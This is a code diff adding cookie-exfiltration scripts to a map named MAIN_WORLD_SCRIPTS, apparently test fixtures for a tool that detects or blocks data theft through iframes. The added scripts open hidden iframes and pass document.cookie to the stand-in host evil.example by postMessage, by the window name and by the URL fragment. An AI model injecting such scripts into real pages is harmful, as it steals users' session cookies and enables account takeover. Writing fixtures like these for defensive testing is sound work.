@@ -1509,6 +1509,31 @@ export const MAIN_WORLD_SCRIPTS = {
   document.body.appendChild(frame);
 })();`,
 
+  /**
+   * A stranger's frame, its address carrying nothing, handed the cookie another way; the frame sends it from its
+   * own origin (evil.example's pages below read it from a message, their name, their address's fragment).
+   */
+  'stranger-frame-message': `(() => {
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  frame.addEventListener('load', () => frame.contentWindow.postMessage(document.cookie, '*'));
+  frame.src = 'https://evil.example/frame-message.html';
+  document.body.appendChild(frame);
+})();`,
+  'stranger-frame-name': `(() => {
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  frame.name = document.cookie;
+  frame.src = 'https://evil.example/frame-name.html';
+  document.body.appendChild(frame);
+})();`,
+  'stranger-frame-fragment': `(() => {
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  document.body.appendChild(frame);
+  frame.src = 'https://evil.example/frame-fragment.html#' + encodeURIComponent(document.cookie);
+})();`,
+
   /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
   'srcdoc-frame': `(() => {
   const frame = document.createElement('iframe');
